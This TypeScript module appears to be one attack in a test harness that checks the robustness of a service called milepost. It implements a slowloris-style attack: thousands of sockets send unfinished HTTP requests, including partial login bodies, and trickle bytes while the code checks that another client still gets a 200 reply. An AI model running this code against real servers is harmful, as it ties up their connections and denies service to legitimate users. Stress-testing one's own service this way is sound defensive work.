import type { Socket } from 'node:net'
import { type Attack, attemptCount, unexpectedStatus } from '../attack'
import { askRaw, open } from '../sending'

const ROUNDS = 10
const PAUSE = 1000
const BEGINNINGS = [
  'GET /api/ping HTTP/1.1\r\nHost: milepost\r\nX-Slow: ',
  'POST /api/auth/login HTTP/1.1\r\nHost: milepost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"email": "',
  'POST /api/auth/login HTTP/1.1\r\nHost: milepost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
]
/** What follows each beginning, sent slowly. */
const MORE = ['x', 'x', '1\r\nx\r\n']

/** Connections that occasionally send a byte and never finish. */
export const slowClients: Attack = {
  name: 'slow clients',
  run: async (stage) => {
    const { victim, tried } = stage
    const sockets: Socket[] = []
    const count = attemptCount(stage, 1000, 3000)
    while (sockets.length < count) {
      const socket = await open(victim.url)
      socket.on('error', () => undefined)
      socket.write(BEGINNINGS[sockets.length % 3] ?? '')
      sockets.push(socket)
    }
    for (let round = 0; round < ROUNDS; round++) {
      sockets.forEach((socket, at) => void socket.write(MORE[at % 3] ?? ''))
      await Bun.sleep(PAUSE)
      const ping = 'GET /api/config HTTP/1.1\r\nHost: milepost\r\n\r\n'
      tried(unexpectedStatus('somebody else', await askRaw(victim.url, ping), 200))
    }
    for (const socket of sockets) {
      tried()
      socket.destroy()
    }
  },
}
